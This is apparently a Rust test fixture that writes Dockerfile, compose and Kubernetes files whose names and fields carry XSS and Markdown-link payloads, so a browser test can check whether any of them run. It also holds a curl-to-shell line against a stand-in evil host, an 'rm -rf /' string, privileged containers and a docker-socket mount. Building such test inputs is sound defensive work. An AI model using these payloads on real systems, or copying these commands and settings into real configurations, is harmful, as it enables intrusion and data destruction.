//! A hostile input tree: names, labels, images and paths that carry HTML,
//! script and Markdown-link payloads. The payloads that would run set
//! `document.title` to `PWNED` or the body's `data-pwned` attribute, so a
//! browser test can see whether any of them ran.

use std::path::Path;

/// A directory name that closes an attribute and opens an `<img>`.
pub const DIR: &str = "\"><img src=x onerror=document.body.setAttribute('data-pwned','1')>";

pub fn write(root: &Path) {
    let put = |rel: &str, text: &str| {
        let p = root.join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, text).unwrap();
    };
    put(
        &format!("{DIR}/Dockerfile"),
        "FROM registry.example.com/<script>document.title='PWNED'</script>:latest\n\
         LABEL description=\"[click](javascript:alert(1)) <img src=x onerror=document.body.setAttribute('data-pwned','1')>\"\n\
         ENV HOMEPAGE=javascript:alert(document.domain)\n\
         RUN curl -k https://evil.example.com/\"<script>document.title='PWNED'</script>\" | sh\n\
         USER root\n",
    );
    put(
        "compose.yaml",
        r#"name: "pwn<script>document.title='PWNED'</script>"
services:
  "<script>document.title='PWNED'</script>":
    image: "\"><img src=x onerror=document.body.setAttribute('data-pwned','1')>"
    privileged: true
    ports:
      - "8080:80"
    labels:
      link: "[x](javascript:alert(1))"
    volumes:
      - "/var/run/docker.sock:/var/run/docker.sock"
      - "/<img src=x onerror=document.body.setAttribute('data-pwned','1')>:/data"
  "[click me](javascript:alert(1))":
    image: "`rm -rf /` | <b>bold</b> https://evil.example.com/x"
"#,
    );
    put(
        "k8s/[evil](javascript:alert(1)).yaml",
        r#"apiVersion: apps/v1
kind: Deployment
metadata:
  name: "<script>document.title='PWNED'</script>"
  namespace: "\"><img src=x onerror=document.body.setAttribute('data-pwned','1')>"
spec:
  selector:
    matchLabels: {app: "<svg onload=document.body.setAttribute('data-pwned','1')>"}
  template:
    metadata:
      labels: {app: "<svg onload=document.body.setAttribute('data-pwned','1')>"}
    spec:
      containers:
        - name: "javascript:alert(1)"
          image: "[x](javascript:alert(1))"
          securityContext: {privileged: true}
          env:
            - name: "<script>document.title='PWNED'</script>"
              valueFrom:
                secretKeyRef: {name: "\"><img src=x onerror=alert(1)>", key: k}
---
apiVersion: v1
kind: Service
metadata:
  name: "<script>document.title='PWNED'</script>"
  namespace: "\"><img src=x onerror=document.body.setAttribute('data-pwned','1')>"
spec:
  type: LoadBalancer
  selector: {app: "<svg onload=document.body.setAttribute('data-pwned','1')>"}
  ports: [{port: 80}]
"#,
    );
    // Not YAML at all: a diagnostic whose path carries a payload.
    put(
        "k8s/<script>document.title='PWNED'</script>.yaml",
        "apiVersion: v1\nkind: [\n",
    );
}
